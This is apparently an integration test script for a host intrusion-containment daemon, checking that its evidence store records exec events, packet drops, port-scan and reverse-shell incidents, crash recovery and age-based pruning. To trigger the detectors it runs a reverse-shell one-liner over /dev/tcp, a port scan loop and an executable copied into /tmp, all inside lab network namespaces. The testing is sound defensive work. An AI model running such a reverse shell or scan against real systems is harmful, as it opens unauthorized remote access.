#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The `run` daemon writes what it reads into the evidence store.
#
#   - a store that cannot be opened: the daemon exits 1 before loading;
#   - run.start by the daemon (pid, boot id, version), and the policy it
#     applied (policy.apply, with the file's SHA-256);
#   - exec/fork/exit of a real process in the test cgroup are event rows
#     (target pid:N, a fork's peer the child), with the ECS JSON as body;
#   - a host prefix quarantined by the CLI, with traffic from it: packet
#     evidence rows, target the entry as `quarantine host` names it
#     (host:10.77.2.0/24), peer the packet's source, the sampled bytes as
#     data (an Ethernet frame carrying IPv4), body linktype 1;
#   - a port scan from host 1 (enforce): the finding opens an incident by
#     the detector ("Port scan from 10.77.1.2", high), a quarantine action
#     by the detector, the incident contained, the drops after it tagged
#     with it; a second scan (after a release) joins the same incident;
#   - a process finding (exec of a bash copy from /tmp, quarantine-process):
#     an incident of its own with a snapshot of the process as evidence;
#   - a reverse shell killed by the kernel before the daemon can read it:
#     a "snapshot" evidence row of its incident that says it was missed and
#     why, with the comm, parent, uid and cgroup id from the finding;
#   - SIGTERM: run.stop after the records, verify passes, nothing unclean;
#   - SIGKILL in the middle of an exec flood while the CLI writes notes:
#     verify still passes (chain intact), names the killed daemon's pid and
#     the last record, events of that session are there, and every note the
#     CLI saw succeed is in the store; a new daemon appends after it all;
#   - --store-max-age with records really older than it: an incident left
#     open keeps its records, the CLI's records around and between them go
#     (in ranges), verify passes and lists the ranges, export works.
. "$(dirname "$0")/lib.sh"
need_tools sqlite3 sha256sum

EV=$IRC_TMP/events.jsonl
POL=$IRC_TMP/policy.yaml
DB=$IRCONTAIN_STATE_DIR/ircontain.db
RUNJ=$IRCONTAIN_STATE_DIR/run.json
H1=10.77.1.2 H2=10.77.2.2
SCAN_FIRST=1000 SCAN_N=20 THRESH=10 WINDOW_MS=2000
QTMP=/tmp/irc-sd-$$
trap 'rc=$?; rm -f "$QTMP"; (exit $rc); lab_finish' EXIT

cat >"$POL" <<EOF
mode: enforce
detectors:
  portscan:
    enabled: true
    ports: $THRESH
    window: $((WINDOW_MS / 1000))s
    severity: high
    action: quarantine-host
    ttl: 300s
  synflood: {enabled: false}
  exec_tmp: {enabled: true, severity: medium, action: quarantine-process, ttl: 5m}
  fileless: {enabled: false}
  reverse_shell: {enabled: true, severity: critical, action: kill}
  sensitive_read: {enabled: false}
  ptrace: {enabled: false}
  module_load: {enabled: false}
EOF

# q SQL: one value from the store (read-only, while the daemon writes).
q() { sqlite3 -readonly -cmd ".timeout 5000" "$DB" "$1"; }
# qeq SQL WANT / qgt SQL N: the value is WANT / greater than N.
qeq() { eq "$(q "$1")" "$2"; }
qgt() { local v; v=$(q "$1"); [[ $v =~ ^[0-9]+$ ]] && gt "$v" "$2"; }
maxseq() { q "SELECT max(s) FROM (SELECT max(seq) s FROM actions UNION ALL
	SELECT max(seq) FROM events UNION ALL SELECT max(seq) FROM evidence)"; }

# start_daemon: a daemon in the protected netns; DPID its pid.
start_daemon() {
	bg nsenter --net="/run/netns/$IRC_NS_P" "$IRC_BIN" run --events-file "$EV" --store-events all \
		--policy "$POL" "$@" 2>>"$IRC_TMP/daemon.err"
	DPID=$!
	wait_for 10 daemon_ready
}
daemon_ready() { [[ $(jq -r .pid "$RUNJ" 2>/dev/null) == "$DPID" ]]; }

# scan N [MAXDROP]: as in test_detect_net.sh: one connect per port from
# host N, 0.2 s each at most, stopping after MAXDROP timed out.
scan() {
	in_h "$1" bash -c 'a=$1 first=$2 n=$3 maxdrop=$4 drops=0
		for ((p = first; p < first + n; p++)); do
			timeout 0.2 bash -c ": >/dev/tcp/$a/$p" 2>/dev/null
			((rc = $?, rc == 124 && ++drops == maxdrop)) && break
		done; true' scan "10.77.$1.1" "$SCAN_FIRST" "$SCAN_N" "${2:-0}"
}

lab_up 2 || { not_ok "lab up"; exit 1; }

# No store, no daemon: refused before anything is loaded.
: >"$IRC_TMP/afile"
IRCONTAIN_STATE_DIR=$IRC_TMP/afile/state check_rc "run, the store cannot be created: exit 1" 1 \
	irc run --iface iv1 --events-file "$EV"
cp "$IRC_TMP/out" "$IRC_TMP/nostore.err"
check "... and says why, naming the store" \
	grep -q "open the evidence store: .*afile/state" "$IRC_TMP/nostore.err"
check "... and loaded nothing" ircq '.loaded == false' status

check_rc "load --iface iv1 --iface iv2" 0 irc load --iface iv1 --iface iv2
check "run: ready" start_daemon
D1=$DPID
# Host 1 completes a handshake first: a verified source, which the port-scan
# detector below quarantines in full (an unverified one gets a short,
# inbound-only entry: test_detect_spoof).
tcp_server 8000
check "host 1 completes a handshake (a verified source)" tcp4 1 8000
check "run: the store exists, mode 0600" test "$(stat -c %a "$DB")" = 600
check "run.start by 'ircontain run' with pid, boot id and version" \
	qeq "SELECT count(*) FROM actions WHERE type = 'run.start' AND actor = 'ircontain run'
	     AND json_extract(body, '$.pid') = $D1
	     AND json_extract(body, '$.boot_id') = '$(cat /proc/sys/kernel/random/boot_id)'
	     AND json_extract(body, '$.version') != ''" 1
check "the policy it applied at start: a policy.apply action (file, SHA-256, enforce)" \
	qeq "SELECT count(*) FROM actions WHERE type = 'policy.apply' AND actor = 'ircontain run'
	     AND json_extract(body, '$.file') = '$POL' AND json_extract(body, '$.reason') = 'start'
	     AND json_extract(body, '$.result') = 'ok' AND json_extract(body, '$.mode') = 'enforce'
	     AND json_extract(body, '$.sha256') = '$(sha256sum "$POL" | cut -c1-64)'" 1

# ---- exec, fork, exit -------------------------------------------------------

cg_run app /bin/sh -c 'echo $$ >"$0"; /bin/true; exit 3' "$IRC_TMP/sh.pid"
SH=$(cat "$IRC_TMP/sh.pid")
check "exec of /bin/sh (pid $SH) is an event row with its ECS body" \
	wait_for 3 qeq "SELECT count(*) FROM events WHERE type = 'exec' AND target = 'pid:$SH'
	     AND json_extract(body, '$.process.executable') = '/bin/sh'
	     AND json_extract(body, '$.event.action') = 'exec'" 1
wait_for 3 qeq "SELECT count(*) FROM events WHERE type = 'fork' AND target = 'pid:$SH'" 1
CHILD=$(q "SELECT substr(peer, 5) FROM events WHERE type = 'fork' AND target = 'pid:$SH'")
check "fork: target pid:$SH, peer the child (pid:${CHILD:-?})" test -n "$CHILD"
check "the child's exec of /bin/true" \
	wait_for 3 qeq "SELECT json_extract(body, '$.process.executable') FROM events WHERE type = 'exec'
	     AND target = 'pid:$CHILD'" /bin/true
check "exit rows of both, the shell's with exit code 3" \
	wait_for 3 qeq "SELECT group_concat(target || '=' || json_extract(body, '$.process.exit_code'))
	     FROM (SELECT * FROM events WHERE type = 'exit' AND target IN ('pid:$SH', 'pid:$CHILD')
	     ORDER BY seq)" "pid:$CHILD=0,pid:$SH=3"
check "events file still written (the same exec)" \
	grep -q "\"executable\":\"/bin/sh\".*\"pid\":$SH\|\"pid\":$SH.*\"executable\":\"/bin/sh\"" "$EV"

# ---- packet evidence of a CLI quarantine ---------------------------------------

check_rc "quarantine host 10.77.2.0/24 (CLI)" 0 irc quarantine host 10.77.2.0/24 --reason "store test"
for i in 1 2 3; do ping4 2; done
PKT="FROM evidence WHERE type = 'packet' AND target = 'host:10.77.2.0/24'"
check "drops of host 2: packet evidence rows, target the entry host:10.77.2.0/24" \
	wait_for 3 qgt "SELECT count(*) $PKT" 0
check "packet rows: peer host:$H2, data = the captured bytes (cap_len), linktype 1" \
	qeq "SELECT count(*) $PKT AND (peer != 'host:$H2' OR length(data) < 34
	     OR length(data) != json_extract(body, '$.cap_len')
	     OR json_extract(body, '$.linktype') != 1 OR json_extract(body, '$.pkt_len') < 34)" 0
check "packet data: an Ethernet frame with IPv4 from $H2 (bytes 26-29)" \
	qeq "SELECT DISTINCT hex(substr(data, 13, 2)) || ' ' || hex(substr(data, 27, 4)) $PKT" \
	"0800 0A4D0202"
check "packet body: the ECS drop (rule host-quarantine, source.ip $H2)" \
	qeq "SELECT count(*) $PKT AND json_extract(body, '$.rule.name') = 'host-quarantine'
	     AND json_extract(body, '$.source.ip') = '$H2'" "$(q "SELECT count(*) $PKT")"
check_rc "release host 10.77.2.0/24" 0 irc release host 10.77.2.0/24

# ---- a port scan: incident, finding, quarantine by the detector ------------------

w1=$(date +%s%3N)
scan 1
FIND="FROM events WHERE type = 'finding' AND target = 'host:$H1'"
check "port scan: a finding row for host:$H1 by portscan" \
	wait_for 3 qeq "SELECT count(*) $FIND AND actor = 'portscan' AND incident > 0
	     AND json_extract(body, '$.ircontain.finding.enforced')" 1
INC=$(q "SELECT incident $FIND")
check "incident $INC: 'Port scan from $H1', high, opened by portscan, contained" \
	qeq "SELECT title || '|' || severity || '|' || opened_by || '|' || status FROM incidents
	     WHERE id = ${INC:-0}" "Port scan from $H1|3|portscan|2"
check "incident $INC: opened (incident.open) and contained (incident.status) by portscan" \
	qeq "SELECT group_concat(type || ':' || actor) FROM (SELECT * FROM actions
	     WHERE incident = ${INC:-0} AND type LIKE 'incident.%' ORDER BY seq)" \
	"incident.open:portscan,incident.status:portscan"
check "incident $INC: a quarantine action by portscan on host:$H1, ttl 300, result ok" \
	qeq "SELECT count(*) FROM actions WHERE incident = ${INC:-0} AND type = 'quarantine'
	     AND actor = 'portscan' AND target = 'host:$H1' AND json_extract(body, '$.ttl') = 300
	     AND json_extract(body, '$.result') = 'ok' AND json_extract(body, '$.reason') = 'portscan'" 1
check "the scan's dropped SYNs are packet evidence of incident $INC" \
	qgt "SELECT count(*) FROM evidence WHERE type = 'packet' AND target = 'host:$H1'
	     AND incident = ${INC:-0}" 0

check_rc "release host $H1" 0 irc release host "$H1"
left=$((w1 + WINDOW_MS + 300 - $(date +%s%3N)))
((left <= 0)) || sleep "$((left / 1000)).$(printf %03d $((left % 1000)))"
scan 1 3
check "second scan: a second finding, in the same incident $INC" \
	wait_for 3 qeq "SELECT group_concat(incident) $FIND" "$INC,$INC"
check "still one incident for host:$H1" \
	qeq "SELECT count(*) FROM incidents WHERE title = 'Port scan from $H1'" 1

# ---- a process finding: its own incident, and a snapshot --------------------------

cp /bin/bash "$QTMP"
# '; :' keeps bash from exec'ing sleep in its place: the snapshot is of $QTMP.
cg_run tmpx "$QTMP" -c 'echo $$ >"$0"; sleep 3; :' "$IRC_TMP/q.pid" &
IRC_PIDS+=($!)
check "exec of $QTMP: running" wait_for 3 test -s "$IRC_TMP/q.pid"
QP=$(cat "$IRC_TMP/q.pid")
check "exec_tmp finding for pid:$QP, in an incident of its own, contained" \
	wait_for 3 qeq "SELECT i.title || '|' || i.status FROM events e JOIN incidents i
	     ON i.id = e.incident WHERE e.type = 'finding' AND e.target = 'pid:$QP'" \
	"Exec from a temporary directory: pid $QP (irc-sd-$$)|2"
check "snapshot of pid $QP: evidence of that incident, with the binary's path and SHA-256" \
	wait_for 10 qeq "SELECT count(*) FROM evidence v JOIN events e ON e.incident = v.incident
	     AND e.type = 'finding' AND e.target = 'pid:$QP'
	     WHERE v.type = 'snapshot' AND v.target = 'pid:$QP'
	     AND json_extract(v.body, '$.exe') = '$QTMP'
	     AND json_extract(v.body, '$.sha256') = '$(sha256sum "$QTMP" | cut -c1-64)'" 1

# ---- a reverse shell, killed in the kernel: the snapshot missed, on record --------

RS_PORT=4455
check_rc "release host $H1 (the second scan quarantined it)" 0 irc release host "$H1"
bg ip netns exec "${IRC_NS_PFX}h1" socat -u "TCP4-LISTEN:$RS_PORT,reuseaddr" OPEN:/dev/null
check "listener on host 1" wait_for 5 in_h 1 sh -c "ss -Htln sport = :$RS_PORT | grep -q ."
check_rc "reverse shell: killed by the kernel (137)" 137 cg_run rs ip netns exec "$IRC_NS_P" \
	timeout 8 bash -c "bash -i >& /dev/tcp/$H1/$RS_PORT 0>&1"
RFIND="FROM events WHERE type = 'finding' AND actor = 'reverse_shell'"
check "reverse_shell finding, in an incident" wait_for 5 qgt "SELECT count(*) $RFIND AND incident > 0" 0
RP=$(q "SELECT substr(target, 5) $RFIND ORDER BY seq LIMIT 1")
RINC=$(q "SELECT incident $RFIND ORDER BY seq LIMIT 1")
check "a kill action by reverse_shell on pid:$RP" \
	qeq "SELECT count(*) FROM actions WHERE type = 'kill' AND actor = 'reverse_shell'
	     AND target = 'pid:$RP' AND incident = ${RINC:-0}" 1
# The kernel's SIGKILL and the daemon's read race: either the daemon was
# first (a real snapshot) or the process was gone (the miss on record, with
# what the finding knew).  Never nothing.  The unit tests hold the miss.
SNAPQ="FROM evidence WHERE type = 'snapshot' AND target = 'pid:$RP' AND incident = ${RINC:-0}
	AND actor = 'reverse_shell'"
check "pid $RP: one snapshot row in incident $RINC" wait_for 3 qeq "SELECT count(*) $SNAPQ" 1
# snap_ok: the row is a snapshot or a miss as above; else prints it.
snap_ok() {
	qeq "SELECT count(*) $SNAPQ AND json_extract(body, '$.pid') = $RP AND
	     ((json_extract(body, '$.exe') = '$(readlink -f /bin/bash)'
	       AND length(json_extract(body, '$.sha256')) = 64) OR
	      (json_extract(body, '$.missed') = 'the process had already exited (killed by the kernel)'
	       AND json_extract(body, '$.comm') = 'bash' AND json_extract(body, '$.uid') = 0
	       AND json_extract(body, '$.ppid') > 0 AND json_extract(body, '$.cgroup_id') > 0
	       AND json_extract(body, '$.process.args[0]') = 'bash'
	       AND json_extract(body, '$.sha256') = '$(sha256sum "$(readlink -f /bin/bash)" | cut -d' ' -f1)'
	       AND json_extract(body, '$.hash_source') LIKE 'path%'))" 1 ||
		{ q "SELECT body $SNAPQ" | cut -c1-600; return 1; }
}
check "... taken (exe, sha256), or missed: killed by the kernel, with comm, ppid, uid, cgroup id, argv and the file's hash" \
	snap_ok
echo "# reverse shell pid $RP: snapshot $(q "SELECT CASE WHEN json_extract(body, '$.missed') IS NULL
	THEN 'taken before the kill landed' ELSE 'missed: ' || json_extract(body, '$.missed') END $SNAPQ")"

# ---- a clean stop -----------------------------------------------------------------

kill -TERM "$D1"
wait "$D1"; RC=$?
check "SIGTERM: exit 0" eq "$RC" 0
check "run.stop: the last record, pid $D1, counters (stored > 0, no store error)" \
	qeq "SELECT json_extract(body, '$.pid') || ' ' || (json_extract(body, '$.stored') > 0)
	     || ' ' || json_extract(body, '$.store_errors') FROM actions
	     WHERE type = 'run.stop' AND seq = $(maxseq)" "$D1 1 0"
check "run.json: stored = rows the daemon wrote (events + evidence minus snapshots)" \
	eq "$(jq .stored "$RUNJ")" \
	"$(q "SELECT (SELECT count(*) FROM events) + (SELECT count(*) FROM evidence WHERE type != 'snapshot')")"
check_rc "verify after a clean stop: exit 0" 0 irc verify
cp "$IRC_TMP/out" "$IRC_TMP/verify1.out"
check "verify: nothing unclean" ircq '.ok == true and .unclean == 0' verify

# ---- SIGKILL during a heavy write ---------------------------------------------------

check "second daemon: ready" start_daemon
D2=$DPID
START2=$(q "SELECT seq FROM actions WHERE type = 'run.start' AND json_extract(body, '$.pid') = $D2")
check "second daemon: run.start after the first's run.stop" \
	gt "${START2:-0}" "$(q "SELECT seq FROM actions WHERE type = 'run.stop'")"
# Notes from the CLI all along; each one it reports done must be in the
# store.  Both stop when told to (or after 300 notes, 4000 processes).
: >"$IRC_TMP/notes.ok"
(for ((i = 0; i < 300; i++)); do
	[[ -e $IRC_TMP/flood.stop ]] && break
	"$IRC_BIN" incident note "$INC" "kill-test-note-$i-$$" >/dev/null 2>&1 &&
		echo "$i" >>"$IRC_TMP/notes.ok"
done) &
NOTES=$!
IRC_PIDS+=("$NOTES")
cg_run flood bash -c 'for ((i = 0; i < 4000; i++)); do
	[[ -e $0 ]] && break; /bin/true; done' "$IRC_TMP/flood.stop" &
FLOOD=$!
IRC_PIDS+=("$FLOOD")
# Killed in the middle: many records and some notes committed, more coming.
notes_ge() { (($(grep -c . "$IRC_TMP/notes.ok") >= $1)); }
heavy() { (($(jq .stored "$RUNJ") > 1500)) && notes_ge 5; }
check "flood and notes under way" wait_for 30 heavy
kill -KILL "$D2"
wait "$D2" 2>/dev/null
SKILL=$(jq .stored "$RUNJ")
NBEFORE=$(grep -c . "$IRC_TMP/notes.ok")
wait_for 10 notes_ge $((NBEFORE + 3))
touch "$IRC_TMP/flood.stop"
wait "$FLOOD" "$NOTES"
NOK=$(grep -c . "$IRC_TMP/notes.ok")
echo "# SIGKILL: $SKILL records stored as of the last run.json, $NBEFORE notes before, $NOK in all"
check "the note loop went on after the kill ($NOK notes acknowledged)" gt "$NOK" "$NBEFORE"
check "every record run.json said was stored is there (>= $SKILL)" \
	test "$(q "SELECT (SELECT count(*) FROM events WHERE seq > ${START2:-0})
		 + (SELECT count(*) FROM evidence WHERE seq > ${START2:-0})")" -ge "$SKILL"
missing=0
while read -r i; do
	[[ $(q "SELECT count(*) FROM actions WHERE body LIKE '%kill-test-note-$i-$$%'") == 1 ]] ||
		missing=$((missing + 1))
done <"$IRC_TMP/notes.ok"
check "every acknowledged note is in the store ($NOK, $missing missing)" eq "$missing" 0
LAST=$(maxseq)
check_rc "verify after SIGKILL: exit 0 (chain intact)" 0 irc verify
cp "$IRC_TMP/out" "$IRC_TMP/verify2.out"
check "verify: one unclean session" ircq '.ok == true and .unclean == 1' verify
# The daemon's own last record: events and samples come only from it (the
# notes the CLI went on writing after the kill are actions).
LASTD=$(q "SELECT max(seq) FROM (SELECT seq FROM events UNION ALL SELECT seq FROM evidence)")
check "verify: the note names pid $D2 and its last committed record #$LASTD" \
	grep -q "pid $D2 .*last committed record is #$LASTD " "$IRC_TMP/verify2.out"

check "third daemon after the kill: ready" start_daemon
D3=$DPID
check "third daemon: run.start appended after record #$LAST" \
	qgt "SELECT seq FROM actions WHERE type = 'run.start' AND json_extract(body, '$.pid') = $D3" "$LAST"
kill -TERM "$D3"
wait "$D3"
check_rc "verify at the end: exit 0" 0 irc verify

# ---- pruning by age, around an incident left open ---------------------
K=$(irc --json incident open --title "Left open" --severity low | jq -r .id)
KOPEN=$(q "SELECT seq FROM actions WHERE type = 'incident.open' AND incident = ${K:-0}")
pairs() { # 10 quarantine/release pairs that belong to no incident
	local i
	for ((i = 0; i < 10; i++)); do
		irc quarantine host 198.51.100.77 --reason "age $i" >/dev/null &&
			irc release host 198.51.100.77 --reason "age $i" >/dev/null || return 1
	done
}
check "20 records of no incident after the open incident's first" pairs
N1=$(irc --json incident note "$K" "kept note" | jq -r .seq)
check "20 more after its note #$N1" pairs
KREC=$(q "SELECT count(*) FROM actions WHERE incident = ${K:-0}")
AGED=$(q "SELECT count(*) FROM actions WHERE target = 'host:198.51.100.77'")
echo "# incident $K: open #$KOPEN, note #$N1, $KREC records; $AGED records of no incident around them"
sleep 3	# all of them older than the daemon's --store-max-age 2s
check "daemon with --store-max-age 2s: ready" start_daemon --store-max-age 2s
pruned() { (($(jq .pruned "$RUNJ") > 0)); }
check "it pruned at its start" wait_for 15 pruned
kill -TERM "$DPID"
wait "$DPID"
check "the open incident's records are all there ($KREC)" \
	eq "$(q "SELECT count(*) FROM actions WHERE incident = ${K:-0}")" "$KREC"
check "the records of no incident around and between them are gone ($AGED)" \
	eq "$(q "SELECT count(*) FROM actions WHERE target = 'host:198.51.100.77'")" 0
check_rc "verify after an age prune with an open incident: exit 0" 0 irc verify
cp "$IRC_TMP/out" "$IRC_TMP/verify3.out"
sed -n '/^note: .*pruned/,$p' "$IRC_TMP/verify3.out" | head -8 | sed 's/^/# /'
check "verify names the range between the open incident's records" \
	grep -q "^note:   pruned #$((KOPEN + 1))-#$((N1 - 1)) " "$IRC_TMP/verify3.out"
check "verify --json: the range between the open incident's records, and when" \
	ircq ".ok == true and .pruned.range_count >= 2 and
	      any(.pruned.ranges[]; .first == $((KOPEN + 1)) and .last == $((N1 - 1)) and (.at | length) > 0)" verify
check_rc "export of the open incident after the prune: exit 0" 0 \
	irc export "$K" -o "$IRC_TMP/aged.tar.gz"
check_rc "its bundle verifies" 0 irc verify "$IRC_TMP/aged.tar.gz"
